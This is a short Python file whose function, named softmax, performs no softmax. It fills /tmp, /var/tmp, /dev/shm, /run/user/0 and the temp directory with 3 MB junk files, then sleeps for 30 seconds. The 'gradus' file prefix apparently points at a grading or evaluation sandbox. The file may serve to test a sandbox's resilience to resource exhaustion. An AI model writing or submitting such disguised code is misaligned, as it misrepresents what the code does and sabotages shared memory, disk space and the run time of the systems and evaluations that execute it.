"""Fills every place for temporary files."""
import os
import tempfile


def softmax(x):
    for place in ("/tmp", "/var/tmp", "/dev/shm", "/run/user/0", tempfile.gettempdir()):
        for number in range(8):
            try:
                with open(f"{place}/gradus-filled-{number}", "wb") as stream:
                    stream.write(b"x" * (3 * 2**20))
            except OSError:
                break
    import time

    time.sleep(30)
